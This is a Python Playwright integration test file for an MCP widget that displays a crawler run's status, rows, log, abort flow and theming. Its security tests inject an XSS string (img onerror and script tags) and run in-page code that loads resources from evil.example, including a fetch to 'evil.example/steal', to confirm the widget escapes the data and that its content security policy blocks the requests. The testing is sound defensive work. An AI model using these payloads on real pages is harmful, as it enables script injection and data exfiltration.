"""The widget of a live run, in a real browser and a sandboxed frame."""

import asyncio
from typing import Any

from playwright.async_api import Browser, expect

from outlast.api.mcp.widgets import widget_page
from tests.integration.widgets.host import RefusedByHost, Tool, WidgetHost, showing
from tests.integration.widgets.samples import dataset_page, log, rows, run_report
from tests.support.eventually import eventually

PAGE = widget_page("actor-run.html")
MARKUP = '<img src="https://evil.example/x.png" onerror="window.pwned = 1"><script>window.pwned = 2</script>'


def steady(**report: Any) -> dict[str, Tool]:
    """A host whose run stays as it is."""
    return {
        "get-actor-run": lambda _: run_report(**report),
        "get-dataset-items": lambda _: dataset_page(rows(3)),
        "get-actor-log": lambda _: log(),
    }


async def test_it_introduces_itself_and_shows_the_run(browser: Browser) -> None:
    async with showing(browser, PAGE, tools=steady()) as host:
        hello = (await host.heard("ui/initialize"))[0]["params"]
        assert hello["protocolVersion"] == "2026-01-26"
        assert {"appInfo", "appCapabilities"} <= hello.keys()
        await host.give_result(run_report())
        frame = host.frame
        await expect(frame.get_by_role("heading")).to_have_text("outlast/site-crawler")
        await expect(frame.get_by_role("status")).to_have_text("Running")
        await expect(frame.locator("#message")).to_have_text("Crawled 7 of 30 pages")
        await expect(frame.get_by_role("progressbar")).to_have_attribute("aria-valuenow", "23")
        await expect(frame.locator("#cost")).to_have_text("$0.0124")
        await expect(frame.locator("#memory")).to_have_text("187 MB")
        await expect(frame.get_by_role("table").get_by_role("row")).to_have_count(4)
        assert host.calls_of("get-actor-run")[0] == {"runId": "8fKQ2mZ1TnYxVb3Rd"}
        assert host.requests == []


async def test_it_follows_the_run_and_stops_at_its_end(browser: Browser) -> None:
    states = [run_report(message="Crawled 12 of 30 pages"), run_report("SUCCEEDED", message="Done: 30 pages")]
    count = {"state": 0}

    def state(_: dict[str, Any]) -> dict[str, Any]:
        count["state"] += 1
        return states[min(count["state"], len(states)) - 1]

    tools: dict[str, Tool] = {**steady(), "get-actor-run": state}
    tools["get-dataset-items"] = lambda _: dataset_page(rows(8), total=30)
    async with showing(browser, PAGE, tools=tools) as host:
        await host.give_result(run_report(message="Crawled 1 of 30 pages"))
        frame = host.frame
        await expect(frame.get_by_role("status")).to_have_text("Succeeded")
        await expect(frame.locator("#rows")).to_have_text("30")
        await expect(frame.get_by_text("8 of 30 rows are shown.")).to_be_visible()
        await expect(frame.get_by_role("button", name="Abort")).to_be_hidden()
        await expect(frame.locator("#run")).to_have_attribute("aria-busy", "false")
        await eventually(lambda: count["state"] == 3)
        await host.page.wait_for_timeout(2_500)
        assert count["state"] == 3, "one more look after the end, for the last rows, and then none"
        await frame.get_by_role("button", name="Use these results").click()
        message = await host.first("ui/message")
        assert message["role"] == "user"
        assert "d4TaSeT5mZ1TnYxVb" in message["content"]["text"]


async def test_abort_asks_once_and_then_calls_the_tool(browser: Browser) -> None:
    tools = steady()

    def aborted(_: dict[str, Any]) -> dict[str, Any]:
        tools["get-actor-run"] = lambda _: run_report("ABORTED", message="The run was aborted")
        return run_report("ABORTED", message="The run was aborted")

    tools["abort-actor-run"] = aborted
    async with showing(browser, PAGE, tools=tools) as host:
        await host.give_result(run_report())
        frame = host.frame
        await frame.get_by_role("button", name="Abort", exact=True).click()
        assert host.calls_of("abort-actor-run") == []
        await frame.get_by_role("button", name="Keep it running").click()
        await expect(frame.get_by_role("button", name="Abort", exact=True)).to_be_visible()
        await frame.get_by_role("button", name="Abort", exact=True).click()
        await frame.get_by_role("button", name="Yes, abort the run").click()
        await expect(frame.get_by_role("status")).to_have_text("Aborted")
        assert host.calls_of("abort-actor-run") == [{"runId": "8fKQ2mZ1TnYxVb3Rd"}]
        await expect(frame.locator("#abort")).to_be_hidden()


async def test_a_refresh_that_fails_is_told_and_mended(browser: Browser) -> None:
    tools = steady()

    def refused(_: dict[str, Any]) -> dict[str, Any]:
        raise RefusedByHost("Too many requests")

    tools["get-actor-run"] = refused
    async with showing(browser, PAGE, tools=tools) as host:
        await host.give_result(run_report())
        notice = host.frame.get_by_role("alert")
        await expect(notice).to_contain_text("Cannot refresh now; trying again.")
        tools["get-actor-run"] = lambda _: run_report()
        await expect(notice).to_be_hidden()


async def test_a_call_that_started_nothing_says_why(browser: Browser) -> None:
    async with showing(browser, PAGE) as host:
        await host.give_result(None, "There is no Actor 'nobody/nothing'.", is_error=True)
        await expect(host.frame.get_by_role("alert")).to_have_text("There is no Actor 'nobody/nothing'.")
        await expect(host.frame.get_by_role("status")).to_have_text("Not started")
        assert host.calls == []


async def test_what_a_run_says_is_text_and_never_markup(browser: Browser) -> None:
    hostile = [{"url": MARKUP, MARKUP: {"nested": MARKUP}}]
    tools = steady(message=MARKUP)
    tools["get-dataset-items"] = lambda _: dataset_page(hostile)
    tools["get-actor-log"] = lambda _: log(MARKUP)
    async with showing(browser, PAGE, tools=tools) as host:
        await host.give_result({**run_report(message=MARKUP, items=hostile), "actorName": MARKUP})
        frame = host.frame
        await expect(frame.locator("#message")).to_have_text(MARKUP)
        await expect(frame.get_by_role("columnheader").nth(1)).to_have_text(MARKUP)
        await frame.get_by_role("tab", name="Log").click()
        await expect(frame.locator("#log")).to_have_text(MARKUP)
        assert await frame.locator("img, script[src]").count() == 0
        await _is_unharmed(host)


async def test_the_policy_blocks_whatever_gets_into_the_page(browser: Browser) -> None:
    async with showing(browser, PAGE, tools=steady()) as host:
        await host.give_result(run_report())
        blocked = await host.frame.evaluate(
            """async () => {
              const blocked = [];
              document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
              const add = (tag, properties) =>
                document.body.append(Object.assign(document.createElement(tag), properties));
              add("script", { textContent: "window.pwned = 1" });
              add("script", { src: "https://evil.example/x.js" });
              add("img", { src: "https://evil.example/x.png" });
              add("iframe", { src: "https://evil.example/" });
              add("style", { textContent: "body { display: none }" });
              document.body.insertAdjacentHTML("beforeend", "<p onclick='window.pwned = 3' style='color: red'>x</p>");
              document.body.lastElementChild.click();
              await fetch("https://evil.example/steal").catch(() => {});
              // The browser tells when it has got round to it.
              while (new Set(blocked).size < 7) await new Promise((resolve) => setTimeout(resolve, 20));
              return blocked;
            }"""
        )
        assert set(blocked) >= {
            *("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"),
            *("img-src", "frame-src", "connect-src"),
        }
        await _is_unharmed(host)


async def _is_unharmed(host: WidgetHost) -> None:
    assert await host.frame.evaluate("window.pwned") is None
    assert host.requests == [], "nothing leaves the page"


async def test_it_follows_the_hosts_theme_and_tells_its_size(browser: Browser) -> None:
    context = {"theme": "dark", "styles": {"variables": {"--font-sans": "serif", "--x": "url(https://evil.example)"}}}
    async with showing(browser, PAGE, tools=steady(), context=context) as host:
        await host.give_result(run_report())
        frame = host.frame
        await expect(frame.locator("html")).to_have_attribute("data-theme", "dark")
        assert await frame.evaluate("getComputedStyle(document.documentElement).colorScheme") == "dark"
        assert await frame.evaluate("getComputedStyle(document.body).fontFamily") == "serif"
        assert await frame.evaluate("document.documentElement.style.getPropertyValue('--x')") == ""

        async def told_its_size() -> bool:
            sizes = await host.heard("ui/notifications/size-changed")
            return any(said["params"]["height"] > 200 for said in sizes)

        await eventually(told_its_size)
        await host.notify("ui/notifications/host-context-changed", theme="light")
        await expect(frame.locator("html")).to_have_attribute("data-theme", "light")


async def test_the_tabs_work_with_the_keyboard(browser: Browser) -> None:
    async with showing(browser, PAGE, tools=steady()) as host:
        await host.give_result(run_report())
        frame = host.frame
        await frame.get_by_role("tab", name="Rows").focus()
        await host.page.keyboard.press("ArrowRight")
        await expect(frame.get_by_role("tab", name="Log")).to_be_focused()
        await expect(frame.get_by_role("tabpanel", name="Log")).to_be_visible()
        await expect(frame.get_by_role("tabpanel", name="Rows")).to_be_hidden()


async def test_a_host_may_ping_it_and_take_it_down(browser: Browser) -> None:
    async with showing(browser, PAGE, tools=steady()) as host:
        await host.give_result(run_report())
        for number, method in enumerate(("ping", "ui/resource-teardown", "unknown/method")):
            message = {"id": f"host-{number}", "method": method, "params": {}}
            await host.page.evaluate("message => tell(message)", message)

        async def answers() -> dict[str, Any] | None:
            found = {each["id"]: each for each in await host.heard() if str(each.get("id")).startswith("host-")}
            return found if len(found) == 3 else None

        found = await eventually(answers)
        assert found["host-0"]["result"] == found["host-1"]["result"] == {}
        assert found["host-2"]["error"]["code"] == -32601
        calls = len(host.calls)
        await host.page.wait_for_timeout(2_500)
        assert len(host.calls) == calls, "a widget that was taken down asks for nothing more"


async def test_a_log_that_does_not_come_keeps_nothing_waiting(browser: Browser) -> None:
    never = asyncio.Event()

    async def silent(_: dict[str, Any]) -> dict[str, Any]:
        await never.wait()
        return log()

    tools: dict[str, Tool] = {**steady(message="Crawled 9 of 30 pages"), "get-actor-log": silent}
    async with showing(browser, PAGE, tools=tools) as host:
        await host.give_result(run_report(message="Crawled 7 of 30 pages"))
        await expect(host.frame.locator("#message")).to_have_text("Crawled 9 of 30 pages")
        await eventually(lambda: len(host.calls_of("get-actor-run")) > 1)
        assert len(host.calls_of("get-actor-log")) == 1
        never.set()
